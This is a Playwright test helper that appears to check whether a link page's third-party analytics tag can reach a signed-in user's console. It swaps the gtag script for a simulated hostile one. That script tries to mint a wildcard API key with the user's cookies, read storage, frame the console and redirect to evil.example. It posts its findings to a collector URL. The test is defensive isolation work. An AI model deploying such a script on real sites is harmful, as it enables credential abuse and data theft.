import type { Browser, BrowserContext, Page } from 'playwright-core';
import { SMART_LINK_NEEDS } from '../builders/smart-link-needs.ts';
import { BROWSER, newTitle } from '../deployment/client.ts';
import type { Json } from '../json.ts';

/** A deployment, and how a person signs in to its console. */
export interface Setup {
  origin: string;
  consoleOrigin: string;
  apiKey: string;
  signIn(context: BrowserContext): Promise<void>;
}

/** Where the tag sends what it got hold of. */
const COLLECTOR = 'https://region1.google-analytics.com/g/collect';

/** A script that the host of the owner's analytics service sends in place of its own. */
const HOSTILE = (console: string) => `(async () => {
const got = {};
const attempt = async (name, run) => { try { got[name] = await run() } catch { got[name] = 'refused' } };
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const key = JSON.stringify({ name: 'stolen', permissions: ['*'] });
for (const at of ['', '${console}']) {
const of = at || 'own';
await attempt(of + ' key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', credentials: \
'include', headers: { 'content-type': 'application/json' }, body: key })).status);
await attempt(of + ' plain key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', mode: \
'no-cors', credentials: 'include', body: key })).status);
await attempt(of + ' keys', async () => (await fetch(at + '/v1/api/keys', { credentials: \
'include' })).status);
await attempt(of + ' frame', async () => {
const frame = document.createElement('iframe');
frame.src = at + '/console';
document.documentElement.append(frame);
await wait(500);
return frame.contentWindow.document.body.innerHTML.length > 0;
});
await attempt(of + ' popup', async () => {
const popup = open(at + '/console');
if (popup === null) return 'refused';
await wait(1500);
return popup.document.querySelector('#app') !== null;
});
}
await attempt('cookies', () => document.cookie.includes('planted'));
await attempt('storage', () => localStorage.getItem('planted') !== null);
await attempt('database', async () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); \
asked.onsuccess = () => resolve(true); asked.onerror = reject }));
await attempt('page', () => top.document.querySelector('main') !== null);
await attempt('navigation', () => { top.location = 'https://evil.example/'; return true });
await fetch('${COLLECTOR}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
})()`;

/** What the script above gets if nothing works. */
const NOTHING = {
  key: 'refused',
  'plain key': 'refused',
  keys: 'refused',
  frame: 'refused',
  popup: 'refused',
};
const PAGE_ALONE = {
  cookies: false,
  storage: false,
  database: 'refused',
  page: 'refused',
  navigation: 'refused',
};

const prefixed = (prefix: string) =>
  Object.fromEntries(Object.entries(NOTHING).map(([name, value]) => [`${prefix} ${name}`, value]));

/** What the script above reports then. */
export const nothingFrom = (consoleOrigin: string) => ({
  ...prefixed('own'),
  ...prefixed(consoleOrigin),
  ...PAGE_ALONE,
});

const api = async (
  { origin, apiKey }: Setup,
  method: string,
  path: string,
  body?: unknown,
): Promise<Json> => {
  const response = await fetch(`${origin}/v1/api${path}`, {
    method,
    headers: { 'x-service-api-key': apiKey, 'content-type': 'application/json' },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  const { data, error } = (await response.json()) as Json;
  if (!response.ok) throw new Error(JSON.stringify(error));
  return data;
};

export const namesOfKeys = async (setup: Setup): Promise<string[]> =>
  (await api(setup, 'GET', '/keys')).keys.map(({ name }: Json) => name);

/**
 * A page with a tag, and a browser in which a person is signed in to the console and
 * the tag's host is hostile.
 */
export async function prepare(
  browser: Browser,
  setup: Setup,
): Promise<{ context: BrowserContext; page: Page; path: string; loot: Json[] }> {
  const { link } = await api(setup, 'POST', '/smart-links', {
    title: newTitle(),
    type: 'myBio',
    ...SMART_LINK_NEEDS.myBio,
    pixels: { ga4: 'G-AB12CD34EF' },
  });
  const context = await browser.newContext({ userAgent: BROWSER });
  const loot: Json[] = [];
  const own = [setup.origin, setup.consoleOrigin];
  await context.route(
    (url) => !own.includes(url.origin),
    (route) => {
      const request = route.request();
      if (request.url() === COLLECTOR) loot.push(JSON.parse(request.postData() ?? '{}'));
      const isScript = request.url().includes('/gtag/js');
      return route.fulfill({
        contentType: 'text/javascript',
        body: isScript ? HOSTILE(setup.consoleOrigin) : '',
      });
    },
  );
  await setup.signIn(context);
  const page = await context.newPage();
  for (const at of own) {
    await page.goto(`${at}/docs`);
    await page.evaluate("document.cookie='planted=1;path=/';localStorage.setItem('planted','1')");
  }
  return { context, page, path: new URL(link.url).pathname, loot };
}

export async function accept(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.getByRole('button', { name: 'Accept' }).click();
}
